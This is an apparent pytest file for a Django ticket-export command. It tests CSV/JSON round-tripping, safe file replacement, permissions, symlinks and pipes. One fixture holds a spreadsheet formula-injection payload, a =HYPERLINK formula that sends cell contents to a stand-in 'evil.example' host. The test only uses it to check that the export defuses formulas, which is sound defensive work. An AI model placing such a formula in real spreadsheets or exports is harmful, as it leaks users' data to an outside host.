"""`manage.py export_tickets`: writes what import_tickets reads, so that the two round-trip."""

import csv
import json
import os
import stat
import threading
from pathlib import Path

import pytest
from django.db import OperationalError

from accounts.tests.factories import AgentFactory, RequesterFactory, TeamFactory
from dispatchdesk.bulk import current_umask
from dispatchdesk.tests.importing import run, write_csv
from tickets.imports import TICKET_COLUMNS
from tickets.management.commands.export_tickets import Command as ExportTickets
from tickets.models import Ticket

from .factories import TicketFactory

pytestmark = pytest.mark.django_db

ROWS = [
    {
        "external_ref": "T-1",
        "title": "Printer, floor 2",
        "description": 'It says "PC LOAD LETTER".\nTwice; then nothing. Ünïcödé ✓',
        "priority": "urgent",
        "status": "resolved",
        "team": "Support",
        "requester_email": "rita@example.com",
        "assignee_email": "alex@example.com",
        "due_at": "2026-03-01T12:00:00.250000Z",
        "created_at": "2026-02-27T08:30:00Z",
        "resolution": "Replaced the fuser.\r\nTested.",
    },
    {
        "external_ref": "T-2",
        "title": "=1+1 is not a formula here",
        "description": "",
        "priority": "low",
        "status": "new",
        "team": "General",
        "requester_email": "rita@example.com",
        "assignee_email": "",
        "due_at": "2026-03-08T08:30:00Z",
        "created_at": "2026-03-01T08:30:00Z",
        "resolution": "",
    },
    {
        "external_ref": "T-3",
        "title": "No deadline",
        "description": "",
        "priority": "normal",
        "status": "open",
        "team": "General",
        "requester_email": "rita@example.com",
        "assignee_email": "",
        "due_at": "none",  # an empty cell would give the priority's due date
        "created_at": "2026-03-01T08:30:00Z",
        "resolution": "",
    },
]


@pytest.fixture
def people(db):
    support = TeamFactory(name="Support")
    RequesterFactory(email="rita@example.com")
    AgentFactory(email="alex@example.com", teams=[support])


def snapshot() -> list[tuple]:
    fields = [
        "external_ref",
        "title",
        "description",
        "priority",
        "status",
        "team__name",
        "requester__email",
        "assignee__email",
        "due_at",
        "created_at",
        "resolution",
    ]
    return list(Ticket.objects.order_by("external_ref").values_list(*fields))


@pytest.mark.parametrize("name", ["tickets.csv", "tickets.json"])
def test_export_then_import_round_trips_every_field(people, tmp_path, name):
    assert run("import_tickets", write_csv(tmp_path / "source.csv", list(TICKET_COLUMNS), ROWS)).ok
    before = snapshot()
    exported = tmp_path / name
    assert run("export_tickets", "-o", exported).ok

    # Into the same database: nothing to do.
    outcome = run("import_tickets", exported)
    assert "0 created, 0 updated, 3 skipped (unchanged), 0 failed" in outcome.out
    assert Ticket.objects.get(external_ref="T-3").due_at is None

    # Into an empty one: the same tickets, field for field, and the same export.
    Ticket.objects.all().delete()
    assert run("import_tickets", exported).ok
    assert snapshot() == before
    again = tmp_path / f"again-{name}"
    assert run("export_tickets", "-o", again).ok
    assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "description",
    [
        "a lone carriage return:\rin the middle",
        "a description longer than 128 KiB " * 5_000 + "end",
    ],
    ids=["lone CR", "200 KB"],
)
def test_a_csv_export_of_any_text_the_api_takes_is_read_back(people, tmp_path, description):
    TicketFactory(external_ref="T-9", description=description)
    exported = tmp_path / "tickets.csv"
    assert run("export_tickets", "-o", exported).ok
    Ticket.objects.all().delete()

    outcome = run("import_tickets", exported)

    assert outcome.ok, outcome.errors or outcome.out
    assert Ticket.objects.get().description == description


def test_export_writes_csv_to_standard_output_and_json_on_request(people, tmp_path):
    assert run("import_tickets", write_csv(tmp_path / "source.csv", list(TICKET_COLUMNS), ROWS)).ok

    as_csv = run("export_tickets")
    assert as_csv.out.splitlines()[0] == ",".join(TICKET_COLUMNS)
    assert as_csv.errors == [
        "Exported tickets: 3 rows to standard output in " + as_csv.errors[0][-7:]
    ]

    assert run("export_tickets", "-o", "-").out == as_csv.out
    assert not Path("-").exists()
    as_json = json.loads(run("export_tickets", "--format", "json").out)
    assert [item["external_ref"] for item in as_json] == ["T-1", "T-2", "T-3"]
    assert as_json[2]["due_at"] == "none"
    assert as_json[1]["assignee_email"] is None
    assert set(as_json[0]) == set(TICKET_COLUMNS)


def test_export_says_which_rows_an_import_would_refuse(people, tmp_path):
    TicketFactory(external_ref=None)

    outcome = run("export_tickets", "-o", tmp_path / "tickets.csv")

    assert outcome.ok
    assert outcome.errors[1] == (
        "1 of them have no external_ref: an import refuses those rows until they are given one."
    )


def test_an_export_that_fails_leaves_the_earlier_file_as_it_was(people, tmp_path, monkeypatch):
    """The database going away halfway: one line says so, and the file is not truncated."""
    TicketFactory(external_ref="T-1")
    earlier = tmp_path / "tickets.csv"
    earlier.write_text("the export of yesterday\n", encoding="utf-8")

    def rows_then_the_database_goes(command):
        yield from original(command)
        raise OperationalError("server closed the connection unexpectedly")

    original = ExportTickets.rows
    monkeypatch.setattr(ExportTickets, "rows", rows_then_the_database_goes)
    outcome = run("export_tickets", "-o", earlier)

    assert not outcome.ok
    assert outcome.failure == (
        "The database could not be read: server closed the connection unexpectedly"
    )
    assert earlier.read_text(encoding="utf-8") == "the export of yesterday\n"
    assert [path.name for path in tmp_path.iterdir()] == ["tickets.csv"]


def test_a_new_export_file_gets_the_usual_permissions(people, tmp_path):
    TicketFactory(external_ref="T-1")
    output = tmp_path / "tickets.csv"

    outcome = run("export_tickets", "-o", output)

    assert outcome.errors[0].startswith(f"Exported tickets: 1 row to {output} in ")
    assert output.read_text(encoding="utf-8").startswith("external_ref,")
    assert output.stat().st_mode & 0o777 == 0o666 & ~current_umask()


def test_an_export_over_a_file_keeps_its_permissions_and_its_link(people, tmp_path):
    """As `> file` would: a file kept private stays so, and a link keeps pointing at the file,
    which gets the export (the link was replaced by a file of its own)."""
    TicketFactory(external_ref="T-1")
    kept = tmp_path / "exports" / "tickets.csv"
    kept.parent.mkdir()
    kept.write_text("old", encoding="utf-8")
    kept.chmod(0o640)
    link = tmp_path / "latest.csv"
    link.symlink_to(kept)

    assert run("export_tickets", "-o", link).ok

    assert link.is_symlink()
    assert kept.read_text(encoding="utf-8").startswith("external_ref,")
    assert kept.stat().st_mode & 0o777 == 0o640
    assert sorted(path.name for path in kept.parent.iterdir()) == ["tickets.csv"]


def test_export_refuses_an_output_of_unknown_format(people, tmp_path):
    outcome = run("export_tickets", "-o", tmp_path / "tickets.xlsx")

    assert not outcome.ok
    assert "cannot tell the format from the name; use --format csv or json" in outcome.failure


FORMULA_TITLES = {
    "F-1": ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "'=HYPERLINK"),
    "F-2": ("+1 555 0100 calls back", "'+1 555"),
    "F-3": ("-2 degrees in the cold room", "'-2 degrees"),
    "F-4": ("@SUM(A1:A9)", "'@SUM"),
    "F-5": ("'=already quoted", "''=already"),
    "F-6": ("'tis the season", "'tis the season"),  # not a formula: left as it is
    "F-7": ("Plain title", "Plain title"),
}


def test_csv_export_defuses_formulas_and_the_import_restores_every_title(people, tmp_path):
    for ref, (title, _) in FORMULA_TITLES.items():
        TicketFactory(external_ref=ref, title=title, team=TeamFactory(name=f"Team {ref}"))
    before = snapshot()
    exported = tmp_path / "tickets.csv"
    assert run("export_tickets", "-o", exported).ok

    with exported.open(encoding="utf-8", newline="") as source:
        cells = {row["external_ref"]: row["title"] for row in csv.DictReader(source)}
    for ref, (_, written) in FORMULA_TITLES.items():
        assert cells[ref].startswith(written), ref
    as_json = json.loads(run("export_tickets", "--format", "json").out)
    assert {item["external_ref"]: item["title"] for item in as_json} == {
        ref: title for ref, (title, _) in FORMULA_TITLES.items()
    }

    Ticket.objects.all().delete()
    assert run("import_tickets", exported).ok
    assert snapshot() == before


def test_a_cell_quoted_by_hand_in_a_spreadsheet_imports_without_its_apostrophe(people, tmp_path):
    row = {**ROWS[1], "external_ref": "T-9", "title": "'=SUM(A1:A2)", "description": "'hello"}
    source = write_csv(tmp_path / "tickets.csv", list(TICKET_COLUMNS), [row])

    assert run("import_tickets", source).ok

    ticket = Ticket.objects.get(external_ref="T-9")
    assert (ticket.title, ticket.description) == ("=SUM(A1:A2)", "'hello")


def test_an_export_into_a_pipe_writes_into_it_as_a_shell_redirection_would(people, tmp_path):
    """The export wrote a new file and put it in the pipe's place (a device such as /dev/null
    alike): its reader got nothing, and the pipe was gone."""
    TicketFactory(external_ref="T-1")
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text(encoding="utf-8")))
    reader.start()

    outcome = run("export_tickets", "-o", pipe, "--format", "csv")
    reader.join(timeout=30)

    assert outcome.ok, outcome.failure
    assert received[0].startswith("external_ref,")
    assert "T-1" in received[0]
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["pipe"]


def test_an_output_named_without_an_extension_is_csv_as_the_help_says(people):
    """`-o /dev/null` was refused ("cannot tell the format from the name"), while the help and
    the README say CSV unless the extension says otherwise."""
    TicketFactory(external_ref="T-1")

    outcome = run("export_tickets", "-o", "/dev/null")

    assert outcome.ok, outcome.failure
    assert outcome.errors[0].startswith("Exported tickets: 1 row to /dev/null in ")


def test_an_export_to_a_folder_is_refused_and_leaves_nothing_behind(people, tmp_path):
    """It wrote the whole export beside the folder, failed to put it in the folder's place and
    left it there, hidden."""
    TicketFactory(external_ref="T-1")
    (tmp_path / "out").mkdir()

    outcome = run("export_tickets", "-o", tmp_path / "out", "--format", "csv")

    assert not outcome.ok
    assert outcome.failure == f"{tmp_path / 'out'}: cannot be written (it is a folder)."
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out"]


def test_an_export_that_cannot_take_the_files_place_leaves_no_copy_behind(
    people, tmp_path, monkeypatch
):
    TicketFactory(external_ref="T-1")

    def refused(self, target):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "replace", refused)
    outcome = run("export_tickets", "-o", tmp_path / "tickets.csv")

    assert outcome.failure == f"{tmp_path / 'tickets.csv'}: cannot be written (Permission denied)."
    assert list(tmp_path.iterdir()) == []
